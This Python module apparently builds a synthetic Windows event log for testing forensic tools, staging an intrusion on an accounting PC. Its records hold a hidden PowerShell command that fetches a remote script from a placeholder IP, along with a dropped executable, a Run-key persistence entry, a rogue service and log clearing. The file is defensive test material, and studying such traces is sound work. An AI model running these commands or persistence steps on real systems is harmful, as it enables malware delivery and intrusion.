"""The records of the sample file: a PC of an accounting office, on one bad morning.

    python -m hinomi.library.sources.windows_evtx.sample_records

writes ``samples/workstation.evtx``.
"""

from datetime import datetime, timedelta
from pathlib import Path
from uuid import UUID

from hinomi.library.sources.windows_evtx.evtx_writer import Hex, Record, Value, write

SAMPLE = Path(__file__).with_name("samples") / "workstation.evtx"
START = datetime(2022, 12, 6, 0, 15, 2, 345678)
COMPUTER = "KEIRI-PC01.example.co.jp"
AUDIT_SUCCESS, AUDIT_FAILURE = 0x8020000000000000, 0x8010000000000000
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
DOCUMENT = r"C:\Users\suzuki\Downloads\見積書.docm"
COMMAND = "powershell.exe -w hidden -c iwr http://198.51.100.23/a.ps1"
PROCESS, CHILD = UUID("7f3a1c10-5d2e-638e-0a01-000000000b00"), UUID("7f3a1c10-5d4f-638e-0c01-000000000b00")
SUZUKI = "S-1-5-21-1111111111-2222222222-3333333333-1105"


def sysmon(second: int, event_id: int, **data: Value) -> Record:
    time = START + timedelta(seconds=second)
    named = {"RuleName": "-", "UtcTime": time.isoformat(" ", "milliseconds"), **data}
    channel = "Microsoft-Windows-Sysmon/Operational"
    return Record(channel, "Microsoft-Windows-Sysmon", event_id, time, COMPUTER, named)


def security(second: int, event_id: int, who: dict[str, Value], keywords: int = AUDIT_SUCCESS, **data: Value) -> Record:
    time, provider = START + timedelta(seconds=second), "Microsoft-Windows-Security-Auditing"
    return Record("Security", provider, event_id, time, COMPUTER, who | data, level=0, keywords=keywords)


def defender(second: int, event_id: int, data: dict[str, Value]) -> Record:
    provider = "Microsoft-Windows-Windows Defender"
    return Record(
        f"{provider}/Operational", provider, event_id, START + timedelta(seconds=second), COMPUTER, data, level=3
    )


SUBJECT: dict[str, Value] = {
    "SubjectUserSid": SUZUKI,
    "SubjectUserName": "suzuki",
    "SubjectDomainName": "KEIRI",
    "SubjectLogonId": Hex(0x5C2A1),
}
NOBODY: dict[str, Value] = {
    "SubjectUserSid": "S-1-0-0",
    "SubjectUserName": "-",
    "SubjectDomainName": "-",
    "SubjectLogonId": Hex(0),
}
THREAT: dict[str, Value] = {
    "Product Name": "Microsoft Defender ウイルス対策",
    "Detection ID": "{5D1C7A52-0B57-4B8F-9F0E-0A4C1B2D3E4F}",
    "Threat ID": "2147800001",
    "Threat Name": "Ransom:Win32/Example.A",
    "Severity ID": "5",
    "Severity Name": "重大",
    "Category Name": "ランサムウェア",
    "Process Name": POWERSHELL,
    "Detection User": r"KEIRI\suzuki",
    "Path": r"file:_C:\Users\suzuki\AppData\Local\Temp\a.exe; process:_pid:4720,ProcessStart:133147809021234567",
}

RECORDS: tuple[Record, ...] = (
    security(
        0,
        4624,
        NOBODY,
        TargetUserSid=SUZUKI,
        TargetUserName="suzuki",
        TargetDomainName="KEIRI",
        LogonType=10,
        WorkstationName="KEIRI-PC01",
        ProcessId=Hex(0x31C),
        ProcessName=r"C:\Windows\System32\svchost.exe",
        IpAddress="::ffff:192.168.10.21",
        IpPort="50106",
    ),
    security(
        4,
        4625,
        NOBODY,
        AUDIT_FAILURE,
        TargetUserSid="S-1-0-0",
        TargetUserName="administrator",
        TargetDomainName="",
        Status=Hex(0xC000006D),
        SubStatus=Hex(0xC000006A),
        LogonType=3,
        WorkstationName="-",
        IpAddress="203.0.113.77",
        IpPort="0",
    ),
    sysmon(
        30,
        1,
        ProcessGuid=CHILD,
        ProcessId=4720,
        Image=POWERSHELL,
        CommandLine=COMMAND,
        User=r"KEIRI\suzuki",
        Hashes="MD5=00112233445566778899AABBCCDDEEFF,SHA256=" + "AB" * 32,
        ParentProcessGuid=PROCESS,
        ParentProcessId=3388,
        ParentImage=WORD,
        ParentCommandLine=f'"{WORD}" /n "{DOCUMENT}"',
    ),
    security(
        30,
        4688,
        SUBJECT,
        NewProcessId=Hex(4720),
        NewProcessName=POWERSHELL,
        ProcessId=Hex(3388),
        CommandLine=COMMAND,
        TargetUserSid="S-1-0-0",
        TargetUserName="-",
        TargetDomainName="-",
        ParentProcessName=WORD,
    ),
    Record(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        4104,
        START + timedelta(seconds=31),
        COMPUTER,
        {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": "iwr http://198.51.100.23/a.ps1",
            "ScriptBlockId": "0b6a2f0e-6d7c-4c1b-9a3e-7f1f2d3c4b5a",
            "Path": "",
        },
        level=3,
    ),
    Record(
        "Windows PowerShell",
        "PowerShell",
        400,
        START + timedelta(seconds=31),
        COMPUTER,
        unnamed=("Available", "None", f"\tNewEngineState=Available\n\tHostApplication={COMMAND}\n\tEngineVersion=5.1"),
        qualifiers=0,
    ),
    sysmon(
        32,
        22,
        ProcessGuid=CHILD,
        ProcessId=4720,
        QueryName="cdn.example.net",
        QueryStatus="0",
        QueryResults="type:  5 edge.example.net;::ffff:198.51.100.23;",
        Image=POWERSHELL,
    ),
    sysmon(
        33,
        3,
        ProcessGuid=CHILD,
        ProcessId=4720,
        Image=POWERSHELL,
        User=r"KEIRI\suzuki",
        Protocol="tcp",
        Initiated=True,
        SourceIsIpv6=False,
        SourceIp="192.168.10.45",
        SourceHostname=COMPUTER,
        SourcePort=51544,
        DestinationIp="198.51.100.23",
        DestinationHostname="-",
        DestinationPort=80,
    ),
    sysmon(
        35,
        11,
        ProcessGuid=CHILD,
        ProcessId=4720,
        Image=POWERSHELL,
        TargetFilename=r"C:\Users\suzuki\AppData\Local\Temp\a.exe",
    ),
    sysmon(
        36,
        13,
        EventType="SetValue",
        ProcessGuid=CHILD,
        ProcessId=4720,
        Image=POWERSHELL,
        TargetObject=r"HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\Update",
        Details=r"C:\Users\suzuki\AppData\Local\Temp\a.exe",
    ),
    defender(37, 1116, {**THREAT, "Action ID": "9", "Action Name": "該当なし"}),
    defender(41, 1117, {**THREAT, "Action ID": "2", "Action Name": "検疫", "Error Code": "0x00000000"}),
    defender(50, 5001, {"Product Name": "Microsoft Defender ウイルス対策", "Product Version": "4.18.2211.5"}),
    Record(
        "System",
        "Service Control Manager",
        7045,
        START + timedelta(seconds=55),
        COMPUTER,
        {
            "ServiceName": "更新サービス",
            "ImagePath": r"C:\Windows\Temp\svc.exe -k",
            "ServiceType": "ユーザー モード サービス",
            "StartType": "自動的な開始",
            "AccountName": "LocalSystem",
        },
        qualifiers=16384,
    ),
    security(
        60,
        4719,
        SUBJECT,
        SubcategoryGuid=UUID("0cce9217-69ae-11d9-bed3-505054503030"),
        AuditPolicyChanges="%%8448",
    ),
    Record(
        "System",
        "Microsoft-Windows-Eventlog",
        104,
        START + timedelta(seconds=61),
        COMPUTER,
        {"SubjectUserName": "suzuki", "SubjectDomainName": "KEIRI", "Channel": "Application", "BackupPath": None},
        user_data="LogFileCleared",
    ),
    Record(
        "Application", "Example Backup", 17, START + timedelta(seconds=70), COMPUTER, unnamed=("失敗", "12"), level=2
    ),
)


if __name__ == "__main__":
    SAMPLE.write_bytes(write(RECORDS))
